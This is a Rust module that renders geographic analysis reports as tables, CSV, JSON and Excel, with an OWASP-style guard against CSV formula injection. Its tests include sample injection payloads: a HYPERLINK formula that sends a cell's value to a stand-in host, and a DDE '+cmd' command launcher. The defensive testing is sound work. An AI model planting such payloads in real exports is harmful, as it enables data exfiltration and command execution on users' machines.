//! Reports and how they render: a table for people, CSV for spreadsheets, JSON for scripts,
//! GeoJSON or GeoPackage for QGIS (polygon layers, through [`polygon_out`]). A report is data
//! (`Serialize` for JSON); each report module declares its columns once ([`Column`]) and the
//! same columns give its CSV and its tables. [`emit`] is the one place a report meets a format
//! and a destination. Numbers are rounded here, at the edge.

pub mod build;
pub mod changes;
pub mod check;
pub mod coterminosity;
pub mod flows;
pub mod geojson_out;
pub mod gpkg_out;
pub mod inspect;
pub mod map;
pub mod matrix;
pub mod overlaps;
pub mod pieces;
pub mod polygon_out;
pub mod spanning;
pub mod table;
pub mod validate;
pub mod xlsx;

use std::borrow::Cow;
use std::io::Write;

use anyhow::Result;
use serde::Serialize;

use crate::output::Output;
pub use table::Table;

/// Output formats of the tabular reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Table,
    Csv,
    Json,
    /// An Excel workbook: an About sheet, then a sheet per table.
    Xlsx,
}

/// How a report is emitted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Emit {
    pub format: Format,
    /// CSV cells that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab, CR at
    /// the start) get a leading `'` (OWASP's advice). Off for scripts that want raw text.
    pub spreadsheet_safe: bool,
}

impl Emit {
    pub fn new(format: Format) -> Emit {
        Emit {
            format,
            spreadsheet_safe: true,
        }
    }
}

/// A report that renders itself: `Serialize` gives its JSON, [`Render::csv`] its one CSV
/// table, [`Render::table`] the text people read, [`Render::sheets`] its Excel workbook (an
/// About sheet, then a sheet per table).
pub trait Render: Serialize {
    fn csv(&self, sink: &mut Csv<'_>) -> Result<()>;
    fn table(&self, w: &mut dyn Write) -> Result<()>;
    fn sheets(&self, book: &mut xlsx::Book) -> Result<()>;
}

/// Write `report` in `how.format` to `out`, whole or not at all. A workbook is not written
/// to a terminal.
pub fn emit<R: Render>(report: &R, how: Emit, out: &Output) -> Result<()> {
    if how.format == Format::Xlsx && out.path().is_none() && {
        use std::io::IsTerminal;
        std::io::stdout().is_terminal()
    } {
        anyhow::bail!(
            "an Excel workbook is not for a terminal: write it to a file with -o report.xlsx"
        );
    }
    crate::timings::time(|| "write".into(), || out.write(|w| render(report, how, w)))
}

/// Render `report` in `how.format` into `w`.
pub fn render<R: Render>(report: &R, how: Emit, w: &mut dyn Write) -> Result<()> {
    match how.format {
        Format::Json => {
            serde_json::to_writer_pretty(&mut *w, report)?;
            writeln!(w)?;
        }
        Format::Csv => {
            let mut sink = Csv {
                w,
                safe: how.spreadsheet_safe,
            };
            report.csv(&mut sink)?;
        }
        Format::Table => report.table(w)?,
        Format::Xlsx => {
            let mut book = xlsx::Book::new();
            report.sheets(&mut book)?;
            book.write(w)?;
        }
    }
    Ok(())
}

/// One cell of a row, typed: how it looks depends on the format.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell<'a> {
    /// Text from the input (names, codes, paths): neutralised in CSV when a spreadsheet would
    /// run it as a formula.
    Text(Cow<'a, str>),
    /// Text footprint made itself from numbers (e.g. a bounding box), written as it is.
    Plain(String),
    /// A measure: full precision (6 decimals) in CSV, 3 decimals in tables.
    Num(f64),
    /// A measure that may be missing: empty in CSV, `-` in tables.
    Opt(Option<f64>),
    Count(usize),
    /// A weight (a head count, with --weights): whole numbers without decimals in tables;
    /// missing is empty in CSV, `-` in tables.
    Weight(Option<f64>),
    /// `yes`/`no` everywhere.
    YesNo(bool),
    /// `yes`/`no` in CSV, `*` or nothing in tables.
    Mark(bool),
}

impl<'a> Cell<'a> {
    pub fn text(s: &'a str) -> Cell<'a> {
        Cell::Text(Cow::Borrowed(s))
    }

    pub fn owned(s: String) -> Cell<'a> {
        Cell::Text(Cow::Owned(s))
    }

    /// The CSV text of the cell.
    pub fn csv(&self, safe: bool) -> Cow<'_, str> {
        match self {
            Cell::Text(s) if safe => spreadsheet_safe(s),
            Cell::Text(s) => Cow::Borrowed(s.as_ref()),
            Cell::Plain(s) => Cow::Borrowed(s.as_str()),
            Cell::Num(v) => Cow::Owned(decimal6(*v)),
            Cell::Opt(v) => Cow::Owned(v.map(decimal6).unwrap_or_default()),
            Cell::Count(n) => Cow::Owned(n.to_string()),
            Cell::Weight(v) => Cow::Owned(v.map(decimal6).unwrap_or_default()),
            Cell::YesNo(b) | Cell::Mark(b) => Cow::Borrowed(if *b { "yes" } else { "no" }),
        }
    }

    /// The table text of the cell (control characters escaped).
    pub fn table(&self) -> String {
        match self {
            Cell::Text(s) => table::escape(s).into_owned(),
            Cell::Plain(s) => s.clone(),
            Cell::Num(v) => fixed(round6(*v), 3),
            Cell::Opt(v) => v.map(|v| fixed(round6(v), 3)).unwrap_or_else(|| "-".into()),
            Cell::Count(n) => n.to_string(),
            Cell::Weight(v) => v
                .map(|v| crate::analysis::weights::amount(round6(v)))
                .unwrap_or_else(|| "-".into()),
            Cell::YesNo(b) => (if *b { "yes" } else { "no" }).into(),
            Cell::Mark(b) => (if *b { "*" } else { "" }).into(),
        }
    }
}

/// A column of a report: its header and how to take its cell from a row. Declared once per
/// report and used for its CSV and its tables alike.
pub struct Column<R> {
    pub name: &'static str,
    pub cell: for<'r> fn(&'r R) -> Cell<'r>,
    /// Shown in tables too (some columns are for CSV only: locations, long lists).
    pub in_table: bool,
}

/// A column of CSV and tables.
pub const fn col<R>(name: &'static str, cell: for<'r> fn(&'r R) -> Cell<'r>) -> Column<R> {
    Column {
        name,
        cell,
        in_table: true,
    }
}

/// A column of CSV only.
pub const fn csv_col<R>(name: &'static str, cell: for<'r> fn(&'r R) -> Cell<'r>) -> Column<R> {
    Column {
        name,
        cell,
        in_table: false,
    }
}

/// The headers of `columns`.
pub fn headers<R>(columns: &[Column<R>]) -> Vec<&'static str> {
    columns.iter().map(|c| c.name).collect()
}

/// A table of `rows` in the table columns of `columns`.
pub fn table_of<'r, R: 'r>(columns: &[Column<R>], rows: impl IntoIterator<Item = &'r R>) -> Table {
    let shown: Vec<&Column<R>> = columns.iter().filter(|c| c.in_table).collect();
    let mut t = Table::new(shown.iter().map(|c| c.name));
    for r in rows {
        t.push(shown.iter().map(|c| (c.cell)(r).table()).collect());
    }
    t
}

/// The CSV writer a report fills: one header line, then rows.
pub struct Csv<'w> {
    w: &'w mut dyn Write,
    safe: bool,
}

impl Csv<'_> {
    /// Write `rows` in `columns`. A block of rows at a time (so that the text of a big report
    /// never sits in memory at once) is made into CSV text on all cores, a piece per task,
    /// then written in order. On one thread, the 36,893 rows of LSOA11 x CCG21 took 19 ms.
    pub fn rows<R: Sync>(&mut self, columns: &[Column<R>], rows: &[R]) -> Result<()> {
        use rayon::prelude::*;
        const BLOCK: usize = 4096;
        const PIECE: usize = 256;
        /// The CSV text `records` writes.
        fn text(
            records: impl FnOnce(&mut csv::Writer<Vec<u8>>) -> csv::Result<()>,
        ) -> Result<Vec<u8>> {
            let mut csv = csv::Writer::from_writer(Vec::new());
            records(&mut csv)?;
            csv.into_inner()
                .map_err(|e| anyhow::anyhow!("{}", e.error()))
        }
        let safe = self.safe;
        self.w
            .write_all(&text(|csv| csv.write_record(headers(columns)))?)?;
        for block in rows.chunks(BLOCK) {
            let pieces: Vec<Vec<u8>> = block
                .par_chunks(PIECE)
                .map(|piece| {
                    text(|csv| {
                        for r in piece {
                            for c in columns {
                                csv.write_field((c.cell)(r).csv(safe).as_bytes())?;
                            }
                            csv.write_record(None::<&[u8]>)?;
                        }
                        Ok(())
                    })
                })
                .collect::<Result<_>>()?;
            for p in pieces {
                self.w.write_all(&p)?;
            }
        }
        Ok(())
    }

    /// Write one record of ready cells (a key/value report's single row).
    pub fn record<'c>(
        &mut self,
        headers: &[&str],
        cells: impl IntoIterator<Item = Cell<'c>>,
    ) -> Result<()> {
        let safe = self.safe;
        let mut csv = csv::Writer::from_writer(&mut *self.w);
        csv.write_record(headers)?;
        let row: Vec<String> = cells
            .into_iter()
            .map(|c| c.csv(safe).into_owned())
            .collect();
        csv.write_record(row)?;
        csv.flush()?;
        Ok(())
    }
}

/// A text cell as a spreadsheet should see it: a leading `'` when it would otherwise start a
/// formula. Numbers (`-1.5`) and a lone sign are left alone.
pub fn spreadsheet_safe(s: &str) -> Cow<'_, str> {
    let risky = matches!(
        s.as_bytes().first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    if !risky || s.len() == 1 || s.parse::<f64>().is_ok_and(f64::is_finite) {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(format!("'{s}"))
    }
}

/// Serialize an f64 rounded to 6 decimals (for `#[serde(serialize_with)]`).
pub fn ser6<S: serde::Serializer>(v: &f64, s: S) -> std::result::Result<S::Ok, S::Error> {
    s.serialize_f64(round6(*v))
}

/// Serialize an optional f64 rounded to 6 decimals (null when missing).
pub fn ser6_some<S: serde::Serializer>(
    v: &Option<f64>,
    s: S,
) -> std::result::Result<S::Ok, S::Error> {
    match v {
        Some(v) => s.serialize_f64(round6(*v)),
        None => s.serialize_none(),
    }
}

/// Serialize a weight share rounded to 6 decimals: present only with weights, null when the
/// unit holds no weight.
pub fn ser6_opt<S: serde::Serializer>(
    v: &Option<Option<f64>>,
    s: S,
) -> std::result::Result<S::Ok, S::Error> {
    match v {
        Some(Some(v)) => s.serialize_f64(round6(*v)),
        _ => s.serialize_none(),
    }
}

/// The About sheet's lines: the table's opening lines (up to its first blank line: what was
/// compared, the tolerance, the counts), then every warning of `ctx` not among them.
pub fn about<R: Render>(report: &R, ctx: Option<&crate::analysis::Context>) -> Result<Vec<String>> {
    let mut text = Vec::new();
    report.table(&mut text)?;
    let text = String::from_utf8_lossy(&text);
    let mut lines: Vec<String> = text
        .lines()
        .take_while(|l| !l.trim().is_empty())
        .map(String::from)
        .collect();
    if let Some(ctx) = ctx {
        lines.extend(
            ctx.warnings
                .iter()
                // The heading has this one as a note.
                .filter(|w| !matches!(w, crate::analysis::Warning::FootprintsOverlap(_)))
                .map(|w| format!("warning: {w}")),
        );
        for l in &ctx.layers {
            lines.extend(
                l.warnings
                    .iter()
                    .map(|w| format!("warning: {}: {w}", l.file)),
            );
        }
    }
    Ok(lines)
}

/// The heading lines of an analysis report's table: tolerance, features read/analysed/skipped
/// per layer, noise removed, notes, weights.
pub fn heading(ctx: &crate::analysis::Context) -> String {
    use crate::analysis::Warning;
    let mut s = format!(
        "tolerance: {} m ({})\n",
        ctx.tolerance_m, ctx.tolerance_source
    );
    for l in &ctx.layers {
        s.push_str(&l.accounting());
        s.push('\n');
    }
    if ctx.noise_pairs_dropped > 0 {
        s.push_str(&format!(
            "noise removed: {} pair{} overlapping only by slivers narrower than the tolerance ({:.3} km² in all)\n",
            ctx.noise_pairs_dropped,
            crate::layer::plural(ctx.noise_pairs_dropped),
            round6(ctx.noise_km2_dropped)
        ));
    }
    for w in &ctx.warnings {
        if let Warning::FootprintsOverlap(_) = w {
            s.push_str(&format!("note: {w}\n"));
        }
    }
    if let Some(w) = &ctx.weights_file {
        s.push_str(&format!(
            "weights: {} ({})\n",
            w,
            ctx.weight_column
                .as_deref()
                .unwrap_or("each point weighs 1")
        ));
    }
    s
}

/// Format a number with a fixed number of decimals, without "-0".
pub fn fixed(v: f64, decimals: usize) -> String {
    let s = format!("{v:.decimals$}");
    if s.starts_with('-') && s[1..].chars().all(|c| c == '0' || c == '.') {
        s[1..].to_string()
    } else {
        s
    }
}

/// Round for machine output (CSV/JSON): 6 decimals are plenty for km² and shares. Never
/// "-0".
pub fn round6(v: f64) -> f64 {
    (v * 1e6).round() / 1e6 + 0.0
}

/// `round6(v).to_string()`, without the general float formatting, which took half of
/// writing a CSV report (as it must find the shortest digits of any float). A number rounded
/// to 6 decimals, under 10^9, is a whole number of millionths `m` with at most 15 digits: no
/// shorter decimal, nor any other of 15 digits or fewer, is read back as the same float, so
/// the shortest digits of `round6(v)` are `m`'s, written with the point 6 places from the
/// right and without trailing zeros. Larger numbers, NaN and infinities go the general way.
pub fn decimal6(v: f64) -> String {
    let n = (v * 1e6).round();
    if n.is_nan() || n.abs() >= 1e15 {
        return round6(v).to_string();
    }
    // Exact: a whole number under 2^53.
    let m = n as i64;
    let (whole, part) = (m.unsigned_abs() / 1_000_000, m.unsigned_abs() % 1_000_000);
    let mut s = String::with_capacity(24);
    if m < 0 {
        s.push('-');
    }
    use std::fmt::Write as _;
    let _ = write!(s, "{whole}");
    if part != 0 {
        let _ = write!(s, ".{part:06}");
        s.truncate(s.trim_end_matches('0').len());
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decimal6_writes_what_the_general_formatting_writes() {
        // Magnitudes from 10^-9 to 10^10 (past where it hands over), both signs, whole
        // numbers, values at half a millionth, and the special values.
        let mut seed = 7;
        let mut values = vec![
            0.0,
            -0.0,
            1.0,
            -1.0,
            0.5e-6,
            -0.5e-6,
            1.5e-6,
            2.5e-6,
            0.1 + 0.2,
            999_999_999.999_999,
            1e9,
            -1e9 - 0.25,
            123_456_789.123_456_7,
            f64::NAN,
            f64::INFINITY,
            f64::NEG_INFINITY,
            f64::MAX,
            f64::MIN_POSITIVE,
        ];
        for _ in 0..200_000 {
            let u = crate::test_rng::unit(&mut seed);
            let e = crate::test_rng::unit(&mut seed) * 19.0 - 9.0;
            let sign = if crate::test_rng::unit(&mut seed) < 0.3 {
                -1.0
            } else {
                1.0
            };
            values.push(sign * u * 10f64.powf(e));
            values.push(sign * (u * 1e6).round() / 1e6 * 10f64.powf(e.round().clamp(0.0, 9.0)));
        }
        for v in values {
            assert_eq!(decimal6(v), round6(v).to_string(), "{v:e}");
        }
    }

    #[test]
    fn formula_cells_are_neutralised_and_numbers_are_not() {
        let cases = [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("=1+2", "'=1+2"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-1.5", "-1.5"),
            ("+3", "+3"),
            ("-", "-"),
            ("E06000060", "E06000060"),
            ("Ynys Môn", "Ynys Môn"),
            ("", ""),
        ];
        for (raw, want) in cases {
            assert_eq!(spreadsheet_safe(raw), want, "{raw:?}");
            assert_eq!(Cell::text(raw).csv(true), want, "{raw:?}");
            assert_eq!(Cell::text(raw).csv(false), raw, "raw CSV keeps {raw:?}");
        }
        // Numbers are never text: a negative measure stays a number.
        assert_eq!(Cell::Num(-0.25).csv(true), "-0.25");
        assert_eq!(Cell::Plain("-1 2".into()).csv(true), "-1 2");
    }

    #[test]
    fn cells_in_each_format() {
        let cases: [(Cell, &str, &str); 8] = [
            (Cell::Num(1.23456789), "1.234568", "1.235"),
            (Cell::Num(-0.0000001), "0", "0.000"),
            (Cell::Opt(None), "", "-"),
            (Cell::Opt(Some(0.5)), "0.5", "0.500"),
            (Cell::Count(7), "7", "7"),
            (Cell::YesNo(false), "no", "no"),
            (Cell::Mark(true), "yes", "*"),
            (Cell::Mark(false), "no", ""),
        ];
        for (cell, csv, table) in cases {
            assert_eq!(cell.csv(true), csv, "{cell:?}");
            assert_eq!(cell.table(), table, "{cell:?}");
        }
    }

    #[test]
    fn table_cells_escape_control_and_direction_characters() {
        assert_eq!(Cell::text("a\nb").table(), "a\\u{a}b");
        assert_eq!(Cell::text("x\r").table(), "x\\u{d}");
        assert_eq!(Cell::text("abc\u{202e}def").table(), "abc\\u{202e}def");
        assert_eq!(Cell::text("Ynys Môn").table(), "Ynys Môn");
    }

    #[derive(Serialize)]
    struct Row {
        code: String,
        km2: f64,
    }

    #[derive(Serialize)]
    struct Demo {
        rows: Vec<Row>,
    }

    const COLUMNS: [Column<Row>; 2] = [
        col("code", |r| Cell::text(&r.code)),
        csv_col("km2", |r| Cell::Num(r.km2)),
    ];

    impl Render for Demo {
        fn csv(&self, sink: &mut Csv<'_>) -> Result<()> {
            sink.rows(&COLUMNS, &self.rows)
        }
        fn table(&self, w: &mut dyn Write) -> Result<()> {
            write!(w, "{}", table_of(&COLUMNS, &self.rows))?;
            Ok(())
        }
        fn sheets(&self, book: &mut xlsx::Book) -> Result<()> {
            book.rows("Demo", &COLUMNS, &self.rows)
        }
    }

    #[test]
    fn one_column_list_gives_csv_and_table() {
        let demo = Demo {
            rows: vec![
                Row {
                    code: "=A1".into(),
                    km2: 1.0 / 3.0,
                },
                Row {
                    code: "B".into(),
                    km2: 2.0,
                },
            ],
        };
        let text = |format| {
            let mut out = Vec::new();
            render(&demo, Emit::new(format), &mut out).expect("renders");
            String::from_utf8(out).expect("utf-8")
        };
        assert_eq!(text(Format::Csv), "code,km2\n'=A1,0.333333\nB,2\n");
        // The table leaves out CSV-only columns.
        assert_eq!(text(Format::Table), "code\n----\n=A1\nB\n");
        assert_eq!(
            text(Format::Json),
            "{\n  \"rows\": [\n    {\n      \"code\": \"=A1\",\n      \"km2\": 0.3333333333333333\n    },\n    {\n      \"code\": \"B\",\n      \"km2\": 2.0\n    }\n  ]\n}\n"
        );
    }
}
